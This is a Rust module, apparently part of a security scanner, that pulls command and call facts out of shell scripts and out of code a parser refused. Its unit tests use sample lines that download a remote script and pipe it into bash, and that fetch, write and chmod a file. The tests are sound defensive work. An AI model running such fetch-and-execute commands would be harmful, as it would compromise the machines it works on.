//! Facts of what no parser reads: shell, batch and PowerShell files, npm's script lines, and
//! JavaScript or Python a parser refused (minified past its limits, Python 2). Every line is a
//! string fact; each command a line runs (split at `;`, `&&`, `||`, `|`) is a call named by its
//! program (`curl`, `powershell`), its arguments as the first argument; in code, `name(` gives a
//! call by its written name (no alias is resolved).

use super::{Call, Facts};
use std::sync::LazyLock;

/// Longest line kept whole as a string fact; longer lines are cut (their calls still count).
const MAX_LINE: usize = 64 * 1024;

static CALL: LazyLock<regex::Regex> =
    LazyLock::new(|| crate::ascii_regex(r"([A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)*)\s*\(").expect("valid"));

/// The facts of a script in a shell language (or an npm script line): commands and lines.
pub(crate) fn shell(source: &str) -> Facts {
    let mut facts = Facts::default();
    for (i, line) in source.lines().enumerate() {
        let line_no = i as u32 + 1;
        let line = cut(line);
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with("REM ") || trimmed.starts_with("::") {
            continue;
        }
        facts.strings.push((trimmed.to_owned(), line_no));
        for command in trimmed.split(['|', ';', '&']).map(str::trim).filter(|c| !c.is_empty()) {
            let mut words = command.split_whitespace();
            let Some(program) = words.next() else { continue };
            let program = program.trim_start_matches(['(', '@', '`']).rsplit(['/', '\\']).next().unwrap_or(program);
            let program = program.strip_suffix(".exe").unwrap_or(program).to_ascii_lowercase();
            let rest: Vec<&str> = words.collect();
            facts.calls.push(Call {
                name: program,
                line: line_no,
                first: Some(rest.join(" ")),
                inner: Vec::new(),
                options: Vec::new(),
            });
        }
    }
    facts
}

/// What can be read of code a parser refused: its lines as strings and `name(` as calls.
pub(crate) fn code(source: &str, facts: &mut Facts) {
    for (i, line) in source.lines().enumerate() {
        let line_no = i as u32 + 1;
        let line = cut(line);
        if line.trim().is_empty() {
            continue;
        }
        for m in CALL.captures_iter(line).take(1000) {
            let name = m[1].to_owned();
            let after = &line[m.get(0).map_or(0, |g| g.end())..];
            let first = quoted(after);
            facts.calls.push(Call { name, line: line_no, first, inner: Vec::new(), options: Vec::new() });
        }
        facts.strings.push((line.trim().to_owned(), line_no));
    }
}

/// A string literal that opens `text`, if any.
fn quoted(text: &str) -> Option<String> {
    let text = text.trim_start();
    let quote = text.chars().next().filter(|c| matches!(c, '"' | '\'' | '`'))?;
    let body = &text[1..];
    body.find(quote).map(|end| body[..end].to_owned())
}

fn cut(line: &str) -> &str {
    if line.len() <= MAX_LINE {
        return line;
    }
    let mut end = MAX_LINE;
    while !line.is_char_boundary(end) {
        end -= 1;
    }
    &line[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_split_and_named_by_their_program() {
        let f = shell(
            "# a comment\ncurl -s https://x.example/p.sh | bash\n/usr/bin/wget -q -O- http://1.2.3.4/a && chmod +x a\n",
        );
        let names: Vec<&str> = f.calls.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["curl", "bash", "wget", "chmod"]);
        assert_eq!(f.calls[0].first.as_deref(), Some("-s https://x.example/p.sh"));
        assert_eq!(f.calls[2].line, 3);
        assert_eq!(f.strings.len(), 2);
    }

    #[test]
    fn refused_code_still_gives_calls() {
        let mut f = Facts::default();
        code("print 'x'\nos.system('id')\n", &mut f);
        assert!(f.calls.iter().any(|c| c.name == "os.system" && c.first.as_deref() == Some("id") && c.line == 2));
    }
}
